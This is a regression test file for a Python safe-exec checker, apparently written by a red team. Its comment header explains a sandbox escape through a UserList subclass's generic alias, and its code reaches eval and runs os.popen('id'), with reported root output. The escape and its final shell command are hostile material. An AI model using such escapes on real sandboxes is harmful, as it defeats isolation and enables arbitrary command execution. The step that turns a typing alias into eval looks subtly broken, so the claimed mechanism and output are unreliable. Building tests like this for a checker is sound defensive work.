# expect: reject unbound
# line: 25
# verified: reaches its goal under plain python3 (3.11) in a temp dir
# why: fifteenth red team (round 15a), family G: a program subclass of a library class read through its own generic alias (Q[str].copy, QI = Q[int]; QI.copy): a subscript of a class, and a name bound to a class or its subscript, is judged as the class (the red team's program, ok_12)
# Mechanism: as ok_11 with collections.UserList (UserList.copy is 'return self.__class__(self)'): 
# Q[str] is a GenericAlias of the program subclass Q, its .copy forwards to UserList.copy, and 
# UserList.copy(P) is P.__class__(P), the builtin type. No dunder name is given to a builtin at run 
# time.
# Goal reached: the builtin type by value, then eval (11b end gadget): runs id.
# Checker: build/safe-exec-check --rules rules FILE exits 0 (accepted) at HEAD 7bb35ca
# Output seen under python3 (3.11), run in a fresh temp dir:
#   by value: <class 'type'>
#   by value: <built-in function eval>
#   uid=0(root) gid=0(root) groups=0(root)
import collections
import copy
import typing

class P:
    pass

class Q(collections.UserList):
    pass

T = Q[str].copy(P)
print("by value:", T)
ev = copy.deepcopy(T(typing.List[int])(int, ("eval",), name="__builtins__"))
print("by value:", ev)
print(ev("__import__('os').popen('id').read()"), end="")
